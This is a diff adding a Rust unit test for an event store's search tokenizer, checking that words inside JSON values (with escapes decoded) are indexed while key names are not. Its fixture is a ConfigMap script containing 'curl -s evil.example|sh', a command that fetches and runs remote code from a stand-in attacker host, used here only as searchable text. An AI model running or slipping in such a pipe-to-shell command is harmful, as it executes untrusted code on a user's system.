@@ -366,6 +366,35 @@ mod tests {
             .expect("event")
     }
 
+    /// The raw input's words are its values' words, JSON escapes decoded: a word after `\n` in
+    /// a ConfigMap script is found; a key name alone is not a word of the event.
+    #[test]
+    fn raw_words_are_json_values_with_escapes_decoded() {
+        let dir = tempfile::tempdir().expect("tempdir");
+        let store = Store::open(dir.path(), StoreConfig::default()).expect("open");
+        let raw = r##"{"kind":"ConfigMap","data":{"run.sh":"#!/bin/sh\ncurl -s evil.example|sh\u0020wget"}}"##;
+        let event: Event = serde_json::from_value(serde_json::json!({
+            "@timestamp": "2024-03-01T10:00:00Z",
+            "event": {"original": raw},
+        }))
+        .expect("event");
+        store.add(&[(1, event)]).expect("add");
+        store.commit().expect("commit");
+        for (query, expected) in [
+            ("curl", 1),
+            ("wget", 1),
+            ("configmap", 1),
+            ("\"curl evil\"", 1),
+            ("ncurl", 0),
+            ("u0020wget", 0),
+            ("kind", 0),
+            ("event.original:curl", 1),
+        ] {
+            assert_eq!(count(&store, query), expected, "{query}");
+        }
+        store.close().expect("close");
+    }
+
     /// A committed partition of another on-disk format (here: a payload without `format`, as
     /// format 1 wrote it) is moved aside, kept whole, and the store starts and takes new
     /// events of the same hour in a fresh partition.
